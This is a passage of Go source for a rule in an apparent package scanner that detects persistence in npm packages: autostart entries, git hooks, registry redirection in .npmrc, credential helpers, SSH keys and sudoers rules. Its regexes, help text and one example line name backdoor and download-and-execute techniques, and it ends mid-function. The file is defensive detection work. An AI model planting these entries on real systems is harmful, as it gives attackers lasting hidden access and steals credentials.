// Package persist holds rules about persistence mechanisms.
package persist

import (
	"context"
	"fmt"
	"maps"
	"path"
	"regexp"
	"slices"
	"strings"

	"github.com/depfence/depfence/internal/analyze"
	"github.com/depfence/depfence/internal/finding"
	"github.com/depfence/depfence/internal/jsast"
	"github.com/depfence/depfence/internal/npm"
	"github.com/depfence/depfence/internal/rules/rulekit"
)

// StartupEntry flags writes to autostart locations.
type StartupEntry struct{}

// Meta implements analyze.Rule.
func (StartupEntry) Meta() analyze.Meta {
	return analyze.Meta{
		ID: "persist/startup-entry", Version: 37, Title: "Installs itself to run at startup",
		Help: "Code writes to an autostart location (crontab, systemd units, LaunchAgents, XDG autostart entries, rc.local and init scripts, " +
			"the Windows Startup folder or Run key, shell rc files, " +
			"CI workflow files, git hooks) or runs crontab/schtasks/reg add/launchctl. A library never needs to survive a reboot: high, and " +
			"critical from install-time code, or when the file also writes a file whose content it decodes from base64 or hex known only " +
			"at run time (an agent kept encoded in a data file, written out for the startup entry to run). Critical too when what it " +
			"plants, next to the location, is a download-and-execute command (curl | sh, PowerShell iex), unless every host it names is " +
			"the package's own (a hook telling its user to install the package). A startup task registered (crontab -, schtasks /create…) by a file the package's command loads " +
			"and calls from a subcommand (itself or through the main module) is medium (a scheduler's install command), and so is an autostart " +
			"location written that way, or by a file that also deletes what it writes, rewrites it with its part cut out (an rc file's " +
			"marked block) or runs the command undoing the task (launchctl unload, systemctl disable, schtasks /delete, reg delete of the " +
			"Run value, also through a wrapper function: an auto-launch API's enable and disable); one whose job downloads and runs code (curl … | sh, its URL " +
			"filled in at run time) is critical; crontab -l only lists. Git hooks (a .git/hooks path, or " +
			"a hooks directory's pre-commit, post-checkout… found at run time) are medium (hook " +
			"installers write them on purpose), and so is git config core.hooksPath at install time (high with --global or --system: every " +
			"repository of the user runs those hooks from then on; critical when the package ships a hook that sends local secrets off-host, " +
			"or a module of it keeps such a shell script as text). " +
			"The same holds for any setting git runs as a command (core.fsmonitor, core.sshCommand, core.pager, core.editor, core.askPass) given to git with --global or --system by install-time code, " +
			"also through the package's own git helper: high, critical when the package ships a shell script that sends local secrets off-host. " +
			"Install-time code that writes a Python .pth file with an import line is critical (site.py runs that line at every interpreter start), and one that writes a pnpm hook file (.pnpmfile.cjs) high (pnpm runs its readPackage on every install of the project). " +
			"So is a shell rc file named by code that " +
			"asks on the terminal first (readline, inquirer, prompts), itself or through the package's file that loads it, outside install scripts: shell-completion installers add their " +
			"source line that way; so is one named by one of the package's commands (its bin) that reads its command line (an alias added when " +
			"the user runs it with --install), or by a file such a command loads that writes only from its functions (a dotfile manager's \"hook\" subcommand). Install-time code that writes " +
			".npmrc, .yarnrc or .gitconfig is high; critical when it sets a registry that is not one of yours, which serves every later " +
			"install from there (also from the package's entry-point code, not a command its user runs, when it sends the token along or stops " +
			"checking certificates: always-auth, strict-ssl=false), or when the git configuration rewrites URLs (insteadOf) to a host that is neither local nor trusted, or " +
			"installs a credential helper that hands credentials to a command (curl); critical too when the install-time modules split the work " +
			"(one names .npmrc or .yarnrc.yml, another writes, and they hold a package manager setting such as strict-ssl, always-auth or " +
			"npmRegistryServer and a URL that is not one of your registries). So is code running git anywhere that sets such a " +
			"helper (git config --global --add credential.helper \"!f() { … curl …; }; f\"), and a shell rc file given a function that takes " +
			"the place of sudo, su, ssh, passwd or doas and sends over the network (a fake password prompt). So is code that writes files and " +
			"holds a shell script (its #! line first) that sends local secrets off-host: a wrapper planted over a command, such as a git " +
			"shim put first in PATH that posts ~/.git-credentials. Critical too: NODE_OPTIONS set to --require/--import a module in a shell rc file (every node process " +
			"then loads it); an editor task written with runOn: folderOpen (the task may be kept by a small module the writer loads, or read from a template with automatic tasks switched on in the project's settings: task.allowAutomaticTasks) at install time or with a download-and-execute command (a node -e script kept among the task's arguments counts; medium otherwise: " +
			"scaffolding tools write a dev-server task into a new project); an AI agent's " +
			"MCP configuration (.cursor/mcp.json, claude_desktop_config.json, .gemini/settings.json…) written at install time or with a " +
			"download-and-execute command in the file (medium otherwise: agent installers do it when you run them). Install-time code that " +
			"appends to $GITHUB_ENV or $GITHUB_PATH is high, critical when it sets NODE_OPTIONS, LD_PRELOAD or BASH_ENV there: every " +
			"later step of the CI job runs the planted code. Backdoors are critical wherever they are: an SSH public key appended to " +
			"authorized_keys, /etc/ld.so.preload written at install time, a sudoers rule with NOPASSWD (as a file or through echo … | " +
			"sudo tee); naming those files in code that writes files is otherwise low (audit tools read them and write reports). " +
			"Install-time code that finds the project through INIT_CWD, writes its package.json and carries a download-and-execute " +
			"command (planted as one of the project's scripts) is critical. Install-time code that writes files and keeps, in a constant of its own or of a file it loads, a download-and-execute command from a host that is neither the package's nor a toolchain's official installer is critical: a command planted for something else to run (an editor's terminal profile, written in one file from a constant in another).",
		Remediation:     "Remove the package and check the named location for planted entries.",
		Example:         `fs.appendFileSync(path.join(os.homedir(), ".bashrc"), "node ~/.cache/x.js &")`,
		DefaultSeverity: finding.SeverityHigh, Signal: analyze.SigPersist, Needs: analyze.NeedCode,
	}
}

var persistPath = regexp.MustCompile(`(?i)(/etc/cron|/var/spool/cron|\.config/systemd|/etc/systemd/system|/library/launch(agents|daemons)|start menu[\\/]programs[\\/]startup|\\currentversion\\run\b|\.bashrc|\.zshrc|\.bash_profile|\.profile$|\.github/workflows|\.config/autostart|/etc/rc\.local|/etc/profile\.d/|/etc/init\.d/|\.git[/\\]hooks([/\\]|$)|[/\\]hooks[/\\](pre-commit|prepare-commit-msg|commit-msg|post-commit|pre-push|post-checkout|post-merge|pre-rebase)$|authorized_keys2?$|/etc/ld\.so\.preload|/etc/sudoers)`)

// persistHints holds a literal piece of every persistPath alternative.
var persistHints = rulekit.NewHints("/etc/cron", "/var/spool/cron", ".config/systemd", "/etc/systemd/system", "/library/launch", `start menu\programs\startup`, "start menu/programs/startup", `\currentversion\run`, ".bashrc", ".zshrc", ".bash_profile", ".profile", ".github/workflows",
	".config/autostart", "/etc/rc.local", "/etc/profile.d/", "/etc/init.d/", ".git/hooks", `.git\hooks`, "hooks/", `hooks\`, "authorized_keys", "/etc/ld.so.preload", "/etc/sudoers")

// pmConfigPath matches the package manager and git configuration files a
// package could rewrite to redirect later installs or hook every commit.
var pmConfigPath = regexp.MustCompile(`(?i)(^|[/\\~])\.(npmrc|yarnrc(\.yml)?|gitconfig)$`)

// registryLine matches a registry set in .npmrc or .yarnrc.yml text.
var registryLine = regexp.MustCompile(`(?i)(^|\n|\s)(@[\w.-]+:)?registry\s*=\s*(https?://[^\s'"]+)|npmRegistryServer:\s*['"]?(https?://[^\s'"]+)`)

// nopasswdAll matches a sudoers rule that runs anything without a
// password.
var nopasswdAll = regexp.MustCompile(`\bNOPASSWD\s*:\s*ALL\b`)

// backdoorCmd matches shell commands that add a login key, a
// preloaded library or password-less root.
var backdoorCmd = regexp.MustCompile(`(?i)(>>?|\btee\b[^|;&\n]*)\s*\S*(authorized_keys2?|/etc/ld\.so\.preload)\b|\bNOPASSWD\s*:\s*ALL\b`)

var persistCmd = regexp.MustCompile(`(?i)(crontab\s|schtasks\s+/create|reg\s+add\s+\S*\\run\b|launchctl\s+(load|bootstrap)|systemctl\s+(--user\s+)?enable)`)

// crontabList matches crontab asked only to print the user's table.
var crontabList = regexp.MustCompile(`(?i)^\s*crontab\s+(-u\s+\S+\s+)?-l\s*$`)

// hooksPathCmd matches git told to take its hooks from another directory.
var hooksPathCmd = regexp.MustCompile(`(?i)\bgit\s+config\s+(--global\s+|--system\s+)?core\.hookspath\b`)

// gitHookNames are the hooks git runs in the course of everyday work.
var gitHookNames = []string{"pre-commit", "prepare-commit-msg", "commit-msg", "post-commit", "pre-push", "post-checkout", "post-merge", "pre-rebase"}

// sendingHook returns a git hook the package ships whose script sends
// local secrets off-host; "" if none.
func sendingHook(t *analyze.Target) string {
	return shippedSender(t, func(name string) bool { return slices.Contains(gitHookNames, path.Base(name)) })
}

// shippedSender returns the first file of the package that picks
// accepts and whose script sends local secrets off-host
// (rulekit.ShellSendsSecrets over its lines joined); "" if none.
func shippedSender(t *analyze.Target, picks func(name string) bool) string {
	for _, f := range t.Files() {
		if !picks(f) {
			continue
		}
		if b, err := t.Read(f); err == nil && len(b) < 64<<10 && rulekit.ShellSendsSecrets(rulekit.JoinScript(string(b))) != "" {
			return f
		}
	}
	return ""
}

// fileWrites are the calls that write a file's content.
var fileWrites = map[string]bool{"writeFile": true, "writeFileSync": true, "appendFile": true, "appendFileSync": true,
	"createWriteStream": true, "copyFile": true, "copyFileSync": true}

// undoCmd matches the commands that take a startup task away again.
var undoCmd = regexp.MustCompile(`(?i)(crontab\s+-r|schtasks(\.exe)?\s+/delete|reg(\.exe)?\s+delete\s+\S*\\run\b|launchctl\s+(unload|bootout|remove)|systemctl\s+(--user\s+)?disable)`)

// fileRemoves are the fs calls that delete a file.
var fileRemoves = map[string]bool{"unlink": true, "unlinkSync": true, "rm": true, "rmSync": true, "remove": true, "removeSync": true}

// undoes reports a file that takes away what it makes start with the
// session: it deletes a file it writes (the same path variable or
// constant), rewrites one it writes with a part cut out (an rc file's
// marked block), or runs a command undoing a startup task (launchctl
// unload, systemctl disable, schtasks /delete, reg delete).
func undoes(f *jsast.Facts) bool {
	var written []jsast.Arg
	for _, c := range f.Calls {
		if fileWrites[rulekit.Last(c.Callee)] && len(c.Args) > 0 {
			written = append(written, c.Args[0])
		}
	}
	// the file rewritten with its block cut out (text.replace(re, ""))
	// as well as written: a managed block in an rc file
	rewrite := func(c jsast.Call) bool {
		return fileWrites[rulekit.Last(c.Callee)] && len(c.Args) > 1 && len(c.Args[0].Names) > 0
	}
	lastName := func(a jsast.Arg) string { return a.Names[len(a.Names)-1] }
	for i, c := range f.Calls {
		if !rewrite(c) || !slices.Contains(c.Args[1].Names, "replace") {
			continue
		}
		for j, d := range f.Calls {
			if j != i && rewrite(d) && !slices.Contains(d.Args[1].Names, "replace") && lastName(d.Args[0]) == lastName(c.Args[0]) {
				return true
			}
		}
	}
	for _, c := range f.Calls {
		if rulekit.IsSpawn(c) && undoCmd.MatchString(rulekit.SpawnCommand(c)) {
			return true
		}
		if !fileRemoves[rulekit.Last(c.Callee)] || len(c.Args) == 0 || !strings.HasPrefix(rulekit.Root(c.Callee), "fs") {
			continue
		}
		gone := c.Args[0]
		for _, w := range written {
			if gone.Known && w.Known && gone.Value == w.Value || len(gone.Names) > 0 && slices.Equal(gone.Names, w.Names) {
				return true
			}
		}
	}
	return false
}

// decodedWrite returns a file write of f whose content is decoded there
// from base64 or hex known only at run time (fs.writeFileSync(p,
// Buffer.from(tpl, "base64").toString())); nil if none.
func decodedWrite(f *jsast.Facts) *jsast.Call {
	decodes := false
	for _, c := range f.Calls {
		switch c.Callee {
		case "Buffer.from":
			decodes = decodes || len(c.Args) > 1 && c.Args[1].Known && (c.Args[1].Value == "base64" || c.Args[1].Value == "hex") && !c.Args[0].Known
		case "atob":
			decodes = decodes || len(c.Args) > 0 && !c.Args[0].Known
		}
	}
	if !decodes {
		return nil
	}
	for i, c := range f.Calls {
		if !fileWrites[rulekit.Last(c.Callee)] || len(c.Args) < 2 {
			continue
		}
		if names := c.Args[1].Names; slices.Contains(names, "atob") || slices.Contains(names, "Buffer") && slices.Contains(names, "from") {
			return &f.Calls[i]
		}
	}
	return nil
}

// writesThrough reports a file that loads a small module of the package
// which writes files, itself or through the modules it loads (depth
// levels down).
func writesThrough(t *analyze.Target, f rulekit.File, depth int) bool {
	if depth == 0 {
		return false
	}
	for _, g := range rulekit.SmallModules(t, f) {
		if slices.ContainsFunc(g.Facts.Calls, func(c jsast.Call) bool { return fileWrites[rulekit.Last(c.Callee)] }) ||
			writesThrough(t, g, depth-1) {
			return true
		}
	}
	return false
}

// Check implements analyze.Rule.
func (StartupEntry) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
	for _, f := range rulekit.Code(ctx, t) {
		writes := false
		for _, c := range f.Facts.Calls {
			writes = writes || fileWrites[rulekit.Last(c.Callee)]
			if rulekit.IsSpawn(c) {
				if m := backdoorCmd.FindString(rulekit.SpawnCommand(c)); m != "" {
					r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
						Message: "runs a command that opens a way back in: " + m, Evidence: rulekit.Ev(c.Snippet.String(), rulekit.SpawnCommand(c), m)})
				} else if m := persistCmd.FindString(rulekit.SpawnCommand(c)); m != "" && !crontabList.MatchString(rulekit.SpawnCommand(c)) {
					in := analyze.Instance{File: f.Name, Line: c.Pos.Line, Message: "registers a startup task: " + m, Evidence: rulekit.Ev(c.Snippet.String(), rulekit.SpawnCommand(c), "")}
					planted := plantedTask(t, f.Facts, c.Pos)
					switch {
					case f.Role == analyze.RoleInstall:
						in.Severity, in.Confidence = finding.SeverityCritical, finding.ConfidenceHigh
						in.Message = "registers a startup task at install time: " + m
					case planted != nil:
						// what the task runs is a download piped into a shell
						in.Severity, in.Confidence = finding.SeverityCritical, finding.ConfidenceHigh
						in.Message = "registers a startup task that downloads and runs code: " + m
						in.Evidence = append(in.Evidence, rulekit.Ev(planted.Snippet.String(), planted.Value, rulekit.ShellDanger(planted.Value))...)
					case flagOfCommand(ctx, t, f):
						// a scheduler's "install" subcommand syncing its
						// user's jobs; what it registers is checked above
						in.Severity = finding.SeverityMedium
						in.Message += ", when its user runs the package's command"
					case undoes(f.Facts):
						in.Severity = finding.SeverityMedium
						in.Message += ", and undoes it too (an autostart API's enable and disable)"
					}
					r.Report(in)
				}
				// hook managers do this when the developer runs them; a
				// dependency's install script has no business to
				if m := hooksPathCmd.FindString(rulekit.SpawnCommand(c)); m != "" && f.Role == analyze.RoleInstall {
					sev, msg := finding.SeverityMedium, "points git's hooks elsewhere at install time: "
					if strings.Contains(m, "--global") || strings.Contains(m, "--system") {
						// every repository of the user runs them from now on
						sev, msg = finding.SeverityHigh, "points the hooks of every git repository elsewhere at install time: "
						if h := sendingHook(t); h != "" {
							sev, msg = finding.SeverityCritical, "points the hooks of every git repository at the package's own at install time ("+h+" sends local secrets off-host): "
						} else if g := scriptSender(ctx, t); g != "" {
							sev, msg = finding.SeverityCritical, "points the hooks of every git repository elsewhere at install time ("+g+" holds a shell script that sends local secrets off-host): "
						}
					}
					r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Severity: sev,
						Message: msg + m, Evidence: rulekit.Ev(c.Snippet.String(), rulekit.SpawnCommand(c), "")})
				}
			}
		}
		if s := credentialHelper(f.Facts); s != nil {
			r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
				Message:  "sets a git credential helper that hands the credentials git stores to a command: " + jsast.Clean(s.Value, 120),
				Evidence: rulekit.Ev(s.Snippet.String(), s.Value, "")})
		}
		if f.Role == analyze.RoleInstall {
			gitCommandSetting(t, f, r)
		}
		if !writes {
			if f.Role == analyze.RoleInstall && writesThrough(t, f, 2) {
				// an install script handing the task to the package's own
				// writer (merge(".vscode/tasks.json", …) from the main
				// module)
				plantedConfig(t, f, r)
			}
			continue
		}
		if f.Role == analyze.RoleInstall {
			pmConfig(t, f, r)
			projectScripts(f, r)
			startupFiles(f, r)
		} else if f.Role == analyze.RoleEntry && !flagOfCommand(ctx, t, f) {
			// a library repointing its user's registry when loaded (a
			// registry switcher does it when its user runs it)
			pmRedirect(t, f, r)
		}
		plantedConfig(t, f, r)
		ciEnvFile(f, r)
		if s, m := sendingScript(f.Facts); s != nil {
			// a wrapper written over a command (a git shim first in PATH)
			r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
				Message: "writes a shell script that sends local secrets off-host", Evidence: rulekit.Ev(s.Snippet.String(), jsast.Clean(m, 160), "")})
		}
		home := false
		for _, c := range f.Facts.Calls {
			if c.Callee == "os.homedir" {
				home = true
			}
		}
		for _, e := range f.Facts.Env {
			if e.Name == "HOME" || e.Name == "USERPROFILE" || e.Name == "APPDATA" {
				home = true
			}
		}
		var deferred *analyze.Instance
		reported := false
		for _, s := range f.Facts.Strings {
			if len(s.Value) > 1024 {
				continue
			}
			if !persistHints.In(s.Value) {
				continue
			}
			m := persistPath.FindString(s.Value)
			if m == "" {
				continue
			}
			// a bare ".profile" is a word; it names a file only as a path
			// or next to the home directory. A bare "authorized_keys" is
			// as often a configuration field (wrangler's containers)
			if !strings.ContainsAny(s.Value, "/\\~") && (!home || backdoorPath(m) && !nearSSHDir(f.Facts, s.Pos)) {
				continue
			}
			sev := finding.SeverityHigh
			switch {
			case backdoorPath(m):
				// a security audit reads authorized_keys and sudoers and
				// writes its report, a config schema has an
				// "authorized_keys" field; a backdoor says more (above)
				sev = finding.SeverityLow
			case f.Facts.Bundle():
				sev = finding.SeverityMedium
			}
			if strings.Contains(strings.ToLower(m), "hooks") {
				// git hook installers (yorkie, simple-git-hooks) do this on
				// purpose; what the hook runs decides
				sev = finding.SeverityMedium
			}
			if strings.Contains(strings.ToLower(m), ".github/workflows") && !pushes(f.Facts) {
				// scaffolding CLIs write workflow files into the project;
				// worms push them to other repositories
				sev = finding.SeverityLow
			}
			if why, ev := backdoor(f, m, s.Pos); why != "" {
				// a way back in: a login key, a library every program
				// loads, root without a password
				r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
					Message: why, Evidence: append(rulekit.Ev(s.Snippet.String(), s.Value, ""), ev...)})
				reported = true
				break
			}
			if opt := nodeOptionsLine(f.Facts); opt != nil && !strings.Contains(strings.ToLower(m), ".git") {
				// every node process the user starts loads the planted module
				r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
					Message:  fmt.Sprintf("sets NODE_OPTIONS to preload a module in autostart location %q", m),
					Evidence: append(rulekit.Ev(s.Snippet.String(), s.Value, ""), rulekit.Ev(opt.Snippet.String(), opt.Value, nodeOptionsRe.FindString(opt.Value))...)})
				reported = true
				break
			}
			if w := shadowedCommand(f.Facts); w != nil && shellRC(m) && !f.Facts.Bundle() {
				// sudo() { read the password …; curl …; command sudo "$@"; }
				r.Report(analyze.Instance{File: f.Name, Line: w.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
					Message:  fmt.Sprintf("plants in %q a shell function that takes the place of a command asking for a password and sends what it reads", m),
					Evidence: rulekit.Ev(w.Snippet.String(), w.Value, shadowFunc.FindString(w.Value))})
				reported = true
				break
			}
			if cmd := plantedCommand(f.Facts, s.Pos); cmd != nil && !f.Facts.Bundle() && rulekit.OwnInstaller(t, cmd.Value) == "" {
				// (a hook that tells the user to install the package from
				// its own vendor when missing plants no one else's code)
				r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceHigh,
					Message:  fmt.Sprintf("plants a download-and-execute command in autostart location %q", m),
					Evidence: append(rulekit.Ev(s.Snippet.String(), s.Value, ""), rulekit.Ev(cmd.Snippet.String(), cmd.Value, rulekit.ShellDanger(cmd.Value))...)})
				reported = true
				break
			}
			if sev == finding.SeverityHigh && f.Role != analyze.RoleInstall && shellRC(m) && (asksAround(ctx, t, f) || flagOfCommand(ctx, t, f)) {
				// a completion installer (tabtab, omelette) adds its source
				// line to the rc file after asking, a CLI its alias when
				// run with --install; what it writes there is checked above
				sev = finding.SeverityMedium
			}
			in := analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: sev, Message: fmt.Sprintf("writes files and names autostart location %q", m), Evidence: rulekit.Ev(s.Snippet.String(), s.Value, "")}
			switch dec := decodedWrite(f.Facts); {
			case sev != finding.SeverityHigh:
			case f.Role == analyze.RoleInstall:
				// installing a package never needs to outlive a reboot
				in.Severity, in.Confidence = finding.SeverityCritical, finding.ConfidenceHigh
				in.Message = fmt.Sprintf("writes files and names autostart location %q at install time", m)
			case dec != nil:
				// what starts with the session is code the package kept
				// encoded (in a JSON file, a string): a planted agent
				in.Severity, in.Confidence = finding.SeverityCritical, finding.ConfidenceHigh
				in.Message = fmt.Sprintf("writes a file it decodes at run time and names autostart location %q", m)
				in.Evidence = append(in.Evidence, rulekit.Ev(dec.Snippet.String(), "", "")...)
			case undoes(f.Facts):
				// auto-launch and unit generators write the entry when
				// their user enables it and delete it on disable; what
				// they write is checked above
				in.Severity = finding.SeverityMedium
				in.Message = fmt.Sprintf("writes files and names autostart location %q, and removes what it writes too (an autostart API's enable and disable)", m)
			case flagOfCommand(ctx, t, f):
				// a unit generator's "install" subcommand
				in.Severity = finding.SeverityMedium
				in.Message = fmt.Sprintf("writes files and names autostart location %q, when its user runs the package's command", m)
			}
			if sev == finding.SeverityLow {
				// a weak match must not hide a stronger one further on
				if deferred == nil {
					deferred = &in
				}
				continue
			}
			r.Report(in)
			deferred, reported = nil, true
			break
		}
		if deferred != nil && !reported {
			r.Report(*deferred)
		}
	}
	plantedAtInstall(ctx, t, r)
	pmConfigAcross(ctx, t, r)
	return nil
}

// pmConfigAcross reports install-time code that rewrites the package
// manager's configuration from several small modules, none of which
// both names the file and writes (pmConfig reports that one): one names
// .npmrc or .yarnrc.yml without reading it, one writes, one holds the settings
// (strict-ssl, always-auth, npmRegistryServer), and the code holds a URL
// whose host is not a registry of the scan's. Critical: every later
// install, and the tokens sent with it, goes to that host.
func pmConfigAcross(ctx context.Context, t *analyze.Target, r analyze.Reporter) {
	var named *jsast.Str
	namedIn, setting, registry := "", "", ""
	writes := false
	for _, f := range rulekit.Code(ctx, t) {
		if f.Role != analyze.RoleInstall || !rulekit.SmallModule(f.Facts) {
			continue
		}
		w, reads := false, false
		for _, c := range f.Facts.Calls {
			w = w || fileWrites[rulekit.Last(c.Callee)]
			reads = reads || rulekit.Last(c.Callee) == "readFileSync" || rulekit.Last(c.Callee) == "readFile"
		}
		var n *jsast.Str
		for i := range f.Facts.Strings {
			s := &f.Facts.Strings[i]
			switch v := s.Value; {
			case len(v) > 4096:
			case pmConfigPath.MatchString(v) && (n == nil || strings.Contains(n.Value, "…") && !strings.Contains(v, "…")):
				n = s // the name as written rather than a path's shape
			case setting == "" && jsast.PMSetting(v):
				setting = v
			case registry == "" && (strings.HasPrefix(v, "https://") || strings.HasPrefix(v, "http://")) && !strings.ContainsAny(v, " \n"):
				if h := rulekit.Host(v); h != "" && !t.IsRegistryHost(h) && !rulekit.LocalHost(h) {
					registry = v
				}
			}
		}
		if w && n != nil {
			return // one file does both: pmConfig
		}
		writes = writes || w
		if named == nil && n != nil && !reads {
			// (a module that reads the file it names is reading the
			// configuration: a downloader honouring strict-ssl)
			named, namedIn = n, f.Name
		}
	}
	if named == nil || !writes || setting == "" || registry == "" {
		return
	}
	r.Report(analyze.Instance{File: namedIn, Line: named.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceMedium,
		Message:  fmt.Sprintf("rewrites %q at install time with the package manager's %s setting, from modules that also hold %s: later installs and their tokens go there", named.Value, setting, rulekit.Host(registry)),
		Evidence: rulekit.Ev(named.Snippet.String(), named.Value, registry)})
}

// plantedAtInstall reports install-time code that writes files and keeps,
// in a constant of its own or of a file it loads, a command that
// downloads and runs code from a host that is neither the package's nor
// a toolchain's official installer: a command planted for something else
// to run later (an editor's terminal profile, a shell rc file, a
// scheduler), the writing and the command in different files.
func plantedAtInstall(ctx context.Context, t *analyze.Target, r analyze.Reporter) {
	writer := ""
	for _, f := range rulekit.Code(ctx, t) {
		if f.Role == analyze.RoleInstall && writesFiles(f) {
			writer = f.Name
			break
		}
	}
	if writer == "" {
		return
	}
	for _, f := range rulekit.Code(ctx, t) {
		if f.Role != analyze.RoleInstall || f.Facts.Bundle() {
			continue
		}
		for _, s := range f.Facts.Strings {
			if s.Printed || len(s.Value) > 4096 {
				continue // install instructions on the console
			}
			m := rulekit.ShellDanger(s.Value)
			if m == "" || rulekit.OwnInstaller(t, s.Value) != "" || rulekit.OfficialInstaller(s.Value) != "" || rulekit.ExternalURL(t, s.Value) == "" {
				continue
			}
			r.Report(analyze.Instance{File: f.Name, Line: s.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceMedium,
				Message:  fmt.Sprintf("install-time code writes files (%s) and keeps a download-and-execute command for them", writer),
				Evidence: rulekit.Ev(s.Snippet.String(), s.Value, m)})
			return
		}
	}
}

// shellRC reports a persistPath match that is a shell's startup file.
func shellRC(m string) bool {
	switch strings.ToLower(m) {
	case ".bashrc", ".zshrc", ".bash_profile", ".profile":
		return true
	}
	return false
}

// asksAround reports a file that prompts on the terminal, or that a file
// of the package prompting on it loads (cli.js asks, lib/rc.js writes).
func asksAround(ctx context.Context, t *analyze.Target, f rulekit.File) bool {
	return rulekit.AsksUser(f.Facts) || rulekit.Loader(ctx, t, f.Name, func(g rulekit.File) bool { return rulekit.AsksUser(g.Facts) }) != ""
}

// flagOfCommand reports a file that is one of the package's commands (its
// bin) and reads its command line, or a file such a command loads, itself
// or through a module in between, that writes only from its functions:
// what it does, its user asked for (cuid2 --install adds an alias to the
// shell's rc file; a dotfile manager's "hook" subcommand calls the
// library function that adds its line).
func flagOfCommand(ctx context.Context, t *analyze.Target, f rulekit.File) bool {
	m, _ := t.Manifest()
	if m == nil {
		return false
	}
	bins := slices.Collect(maps.Values(npm.Bins(m.Name, m.Bin)))
	if slices.Contains(bins, f.Name) {
		return readsCommandLine(f.Facts)
	}
	if slices.ContainsFunc(f.Facts.Calls, func(c jsast.Call) bool { return c.TopLevel && fileWrites[rulekit.Last(c.Callee)] }) {
		return false // it writes as soon as it is loaded
	}
	command := func(g rulekit.File) bool { return slices.Contains(bins, g.Name) && readsCommandLine(g.Facts) }
	// loaded by the command, or through the package's main module that
	// the command loads (cli.js → index.js → lib/crontab.js)
	return rulekit.Loader(ctx, t, f.Name, func(g rulekit.File) bool {
		return command(g) || !slices.Contains(bins, g.Name) && rulekit.Loader(ctx, t, g.Name, command) != ""
	}) != ""
}

// readsCommandLine reports a file that reads its command line.
func readsCommandLine(f *jsast.Facts) bool {
	if slices.ContainsFunc(f.Members, func(m jsast.Member) bool { return m.Name == "process.argv" }) {
		return true
	}
	for _, c := range f.Calls {
		if strings.HasPrefix(c.Callee, "process.argv.") || c.Callee == "util.parseArgs" {
			return true
		}
	}
	for _, im := range f.Imports {
		switch im.Module {
		case "commander", "yargs", "minimist", "meow", "cac", "arg", "mri", "sade", "citty", "yargs-parser":
			return true
		}
	}
	return false
}

// weakenedAuth matches the settings that send the user's token with every
// request or stop checking the registry's certificate (npm's and yarn
// berry's spellings).
var weakenedAuth = regexp.MustCompile(`(?i)always-auth\s*=\s*true|strict-ssl\s*=\s*false|npmAlwaysAuth:\s*true|enableStrictSsl:\s*false`)

// pmSettings returns the string of f naming a package manager's or git's
// configuration file, and a registry URL a setting line of f points at
// that is none of the scan's registries nor this machine ("" if none).
func pmSettings(t *analyze.Target, f *jsast.Facts) (*jsast.Str, string) {
	var named *jsast.Str
	registry := ""
	for i := range f.Strings {
		s := &f.Strings[i]
		if len(s.Value) > 4096 {
			continue
		}
		if named == nil && pmConfigPath.MatchString(s.Value) {
			named = s
		}
		if registry == "" {
			if m := registryLine.FindStringSubmatch(s.Value); m != nil {
				u := m[3] + m[4]
				if h := rulekit.Host(u); h != "" && !t.IsRegistryHost(h) && !rulekit.LocalHost(h) {
					registry = u
				}
			}
		}
	}
	return named, registry
}

// pmRedirect reports live code that writes a registry setting pointing
// elsewhere into the package manager's configuration, with one that sends
// the user's token along or stops checking the certificate (always-auth,
// strict-ssl=false): every later install, and the tokens sent with it,
// goes to that host. Critical.
func pmRedirect(t *analyze.Target, f rulekit.File, r analyze.Reporter) {
	named, registry := pmSettings(t, f.Facts)
	if named == nil || registry == "" || !slices.ContainsFunc(f.Facts.Strings, func(s jsast.Str) bool { return weakenedAuth.MatchString(s.Value) }) {
		return
	}
	r.Report(analyze.Instance{File: f.Name, Line: named.Pos.Line, Severity: finding.SeverityCritical, Confidence: finding.ConfidenceMedium,
		Message:  fmt.Sprintf("points the package registry at %s in %q when loaded", rulekit.Host(registry), named.Value),
		Evidence: rulekit.Ev(named.Snippet.String(), named.Value, registry)})
}

// pmConfig reports install-time code that writes the package manager's or
// git's configuration: .npmrc, .yarnrc(.yml), .gitconfig. Pointing the
// registry elsewhere there serves every later install from the attacker.
func pmConfig(t *analyze.Target, f rulekit.File, r analyze.Reporter) {
	named, registry := pmSettings(t, f.Facts)
	if named == nil {
		return
	}
	sev, msg := finding.SeverityHigh, fmt.Sprintf("writes files and names %q at install time: the configuration of later installs", named.Value)
	if registry != "" {
		sev, msg = finding.SeverityCritical, fmt.Sprintf("points the package registry at %s in %q at install time", rulekit.Host(registry), named.Value)
	} else if hijack := gitHijack(f.Facts); hijack != "" {
		sev, msg = finding.SeverityCritical, fmt.Sprintf("%s in %q at install time", hijack, named.Value)
	}
	r.Report(analyze.Instance{File: f.Name, Line: named.Pos.Line, Severity: sev, Confidence: finding.ConfidenceMedium, Message: msg,
		Evidence: rulekit.Ev(named.Snippet.String(), named.Value, registry)})
}

// gitURLSection is a git config section rewriting URLs: [url "https://x/"].
var gitURLSection = regexp.MustCompile(`\[url\s+"([^"]+)"\]`)

// startupFiles reports install-time code that writes a file another
// tool runs on its own: a Python .pth file, in a site directory it names,
// whose import line site.py runs at every interpreter start (critical; a
// PyTorch checkpoint is a .pth too), or a pnpm hook file
// (.pnpmfile.cjs), whose readPackage pnpm runs on every install of the
// project (high).
func startupFiles(f rulekit.File, r analyze.Reporter) {
	var pth, imp, pnpm *jsast.Str
	site := false // a Python site directory is named: where .pth files run
	for i := range f.Facts.Strings {
		s := &f.Facts.Strings[i]
